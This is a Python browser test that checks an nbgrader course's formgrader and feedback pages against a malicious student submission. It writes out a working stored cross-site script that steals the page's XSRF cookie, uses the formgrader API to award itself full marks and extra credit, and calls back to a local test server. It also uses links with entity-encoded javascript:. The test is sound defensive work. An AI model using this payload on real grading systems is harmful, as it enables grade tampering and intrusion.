"""A submission that carries script, opened where people look at submissions: the instructor's formgrader (a real
Jupyter server with nbgrader's formgrader, logged in with its token) and the student's feedback page, in Chromium.

What it protects (boundary/inert.py, grader/cheats/script_in_markdown.py, grader/cheats/entity_encoded_links.py): no
script of the submission runs in either page (it would mark the page, call back to a server of this test, and give
itself full marks through the formgrader's API), none of its links runs script when clicked (their ``javascript:``
hidden behind character references), no remote image is fetched, and the gradebook is the same after the pages were
opened and every link clicked as before. Both walls are tested: the allow-list shows the submission's cells as text;
and a copy of the attack that the allow-list is switched off for (as if it had missed it) is live in both pages, where
the pages' Content-Security-Policy alone keeps it from running, while the formgrader's own script still runs.
"""
from __future__ import annotations

import http.server
import re
import threading
import urllib.request
from pathlib import Path

import nbformat
import pytest
from helpers.browser import CHROMIUM_ARGS, JupyterLabServer, find_chromium
from helpers import REPO
from helpers.cheat_corpus import header
from helpers.synthetic import SYNTHETIC_LAB as LAB, make_synthetic_course
from nbformat.v4 import new_markdown_cell

from lab_utils import grading

pytestmark = [pytest.mark.browser, pytest.mark.slow]
STUDENT = "mallory"


def _attack(ping: str) -> str:
    """The corpus's markdown attack, and a script that gives this submission full marks through the formgrader's
    API (with the page's XSRF cookie, as formgrade.js does) and calls back to the test."""
    head = next(line for line in (REPO / "grader" / "cheats" / "script_in_markdown.py").read_text().splitlines()
                if line.startswith("# markdown:"))
    steal = f"""<script>
(async () => {{
  new Image().src = "{ping}/ran";
  window.DTLABS_PWNED = "formgrader";
  const x = document.cookie.match(/_xsrf=([^;]+)/);
  const h = {{"Content-Type": "application/json"}};
  if (x) h["X-XSRFToken"] = decodeURIComponent(x[1]);
  const grades = await (await fetch("/formgrader/api/grades?submission_id=" + submission_id, {{headers: h}})).json();
  for (const g of grades) {{
    await fetch("/formgrader/api/grade/" + g.id, {{method: "PUT", headers: h,
      body: JSON.stringify({{manual_score: g.max_score, extra_credit: 10}})}});
  }}
  new Image().src = "{ping}/graded-" + grades.length;
}})();
</script>"""
    return head.split(":", 1)[1].strip().replace('"x"', f'"{ping}/img"') + "\n\n" + steal


def _links(ping: str) -> str:
    """The corpus's links whose ``javascript:`` hides behind character references, and its remote image, pointed at
    this test's server."""
    return header(REPO / "grader" / "cheats" / "entity_encoded_links.py")["markdown"].replace("http://tracker.invalid", ping)


LINKS = re.findall(r">(DTLABS-LINK-\d+)</a>", _links(""))


class _Pings(http.server.BaseHTTPRequestHandler):
    seen: list = []

    def do_GET(self):  # noqa: N802 - http.server's name
        _Pings.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


def _grades(root: Path) -> dict:
    from nbgrader.api import Gradebook

    with Gradebook(grading.gradebook.db_url(root)) as gb:
        sub = gb.find_submission_notebook(LAB, LAB, STUDENT)
        return {g.name: (g.auto_score, g.manual_score, g.extra_credit) for g in sub.grades}, sub.id


class _Formgrader(JupyterLabServer):
    """The instructor's Jupyter, with the course's own nbgrader config on the Jupyter path (as grader/README.md says:
    ``JUPYTER_CONFIG_PATH=grader``)."""

    def env(self) -> dict:
        env = super().env()
        env["JUPYTER_CONFIG_PATH"] = str(self.root / "grader")
        return env


def _click_every_link(page, where: str) -> None:
    """Each of the links, live on this page (the allow-list switched off for it), clicked."""
    for text in LINKS:
        link = page.locator("a", has_text=text)
        assert link.count() == 1, f"{where}: the unchecked copy of {text} should be a live link here"
        link.click()
    page.wait_for_timeout(500)


def _shown_as_text(page, where: str) -> None:
    body = page.inner_text("body")
    assert all(text in body for text in LINKS) and "DTLABS-MARKDOWN" in body, f"{where} should show the submission"
    live = [t for t in LINKS if page.locator("a", has_text=t).count()]
    assert not live, f"{where}: the allow-list let these links through: {live}"


@pytest.mark.timeout(900)
def test_a_submissions_script_runs_neither_in_the_formgrader_nor_in_feedback(tmp_path, no_leaked_processes):
    chromium, why = find_chromium()
    if chromium is None:
        pytest.fail(why)  # .ci/install-browser installs it
    from playwright.sync_api import sync_playwright

    pings = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Pings)
    threading.Thread(target=pings.serve_forever, daemon=True).start()
    ping = f"http://127.0.0.1:{pings.server_address[1]}"
    _Pings.seen = []

    root = make_synthetic_course(tmp_path / "course")
    config = root / "grader" / "nbgrader_config.py"
    config.write_text((REPO / "grader" / "nbgrader_config.py").read_text())
    (root / "grader" / "jupyter_server_config.d").mkdir()
    for f in (REPO / "grader" / "jupyter_server_config.d").glob("*.json"):  # the formgrader's policy
        (root / "grader" / "jupyter_server_config.d" / f.name).write_text(f.read_text())
    grading.release([LAB], root=root)
    rel = nbformat.read(str(root / "labs" / LAB / f"{LAB}.ipynb"), as_version=4)
    rel.cells.insert(3, new_markdown_cell(_attack(ping)))  # after the answer cell: the release's stubs, 0 points
    for i, element in enumerate(re.findall(r"<a .*?</a>|<img [^>]*>", _links(ping))):  # a cell each: one slipping
        rel.cells.insert(4 + i, new_markdown_cell(element))                        # through is seen on its own
    grading.submit(root, STUDENT, LAB, rel)
    lines = []
    grading.grade([LAB], course_root=root, jobs=1, feedback=True, out=lines.append, progress=False)
    before, submission_id = _grades(root)
    assert sum(a or 0 for a, _, _ in before.values()) == 0, (before, lines)
    feedback = root / "grader" / "work" / "feedback" / STUDENT / LAB / f"{LAB}.html"
    assert feedback.is_file(), lines
    checked = tmp_path / "feedback-checked.html"  # the feedback as graded: the allow-list on
    checked.write_text(feedback.read_text())

    # The second wall alone: the allow-list off in every page rendered from now on, and a copy of the attacks put
    # into the autograded notebook unchecked, as if it had let them through.
    config.write_text(config.read_text() + "\nc.HTMLExporter.preprocessors = []\nc.GenerateFeedback.preprocessors = [\n"
                      "    p for p in c.GenerateFeedback.preprocessors if p.__name__ != 'InertNotebook']\n")
    autograded = root / "grader" / "work" / "autograded" / STUDENT / LAB / f"{LAB}.ipynb"
    nb = nbformat.read(str(autograded), as_version=4)
    nb.cells.append(new_markdown_cell(_attack(ping) + "\n\n" + _links(ping)))
    nbformat.write(nb, str(autograded))
    run = grading.nbgrader_run.run_nbgrader(["generate_feedback", LAB, "--force", "--student", STUDENT],
                                            course_root=root)
    assert run.returncode == 0, run.output
    unchecked = feedback.read_text()
    assert re.search(r"<a href=\"[^\"]*'link-1'", unchecked) and "<script>window.DTLABS_PWNED" in unchecked, \
        "the unchecked copy should reach the feedback page as HTML"

    server = _Formgrader(root, tmp_path / "home")
    server.start()
    try:
        with urllib.request.urlopen(server.url("lab"), timeout=30) as r:
            lab_policy = r.headers.get("Content-Security-Policy", "")
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS, headless=True)
            try:
                page = browser.new_page()
                answer = page.goto(server.url(f"formgrader/submissions/{submission_id}/"))  # logs in with the token
                page.wait_for_load_state("networkidle")
                page.wait_for_timeout(1000)  # what a script would do after the page loaded
                policy = answer.headers.get("content-security-policy", "")
                own = page.evaluate("() => [typeof jQuery, typeof submission_id, typeof toggle_name,"
                                    " document.querySelectorAll('input.score').length]")
                page.locator("span.glyphicon.name-hidden").click()  # nbgrader's own onclick (its hash)
                names = page.locator("a.name-shown").is_visible()
                _click_every_link(page, "the formgrader")
                formgrader = (page.evaluate("() => window.DTLABS_PWNED || null"), page.inner_text("body"))
                page.goto(checked.as_uri())
                page.wait_for_load_state("networkidle")
                _shown_as_text(page, "the feedback page as graded")
                student = [page.evaluate("() => window.DTLABS_PWNED || null")]
                page.goto(feedback.as_uri())
                page.wait_for_load_state("networkidle")
                _click_every_link(page, "the feedback page")
                student.append(page.evaluate("() => window.DTLABS_PWNED || null"))
            finally:
                browser.close()
    finally:
        server.stop()
        pings.shutdown()
    after, _ = _grades(root)
    assert "DTLABS-MARKDOWN" in formgrader[1], "the formgrader page should show the submission (its markdown as text)"
    assert formgrader[0] is None, f"the submission's script ran in the instructor's formgrader: {formgrader[0]}"
    assert student == [None, None], f"the submission's script ran in the feedback page: {student}"
    assert not _Pings.seen, f"the submission's page called out: {_Pings.seen}"
    assert after == before, f"the gradebook changed while the pages were open: {before} -> {after}"
    assert "script-src" in policy and "'unsafe-inline'" not in policy and "img-src 'self' data:" in policy, policy
    assert "script-src" not in lab_policy, f"JupyterLab's own pages keep Jupyter's policy: {lab_policy}"
    assert own[:3] == ["function", "string", "function"] and own[3] > 0 and names, \
        f"the formgrader's own script should run under its policy: {own}, names shown {names}"
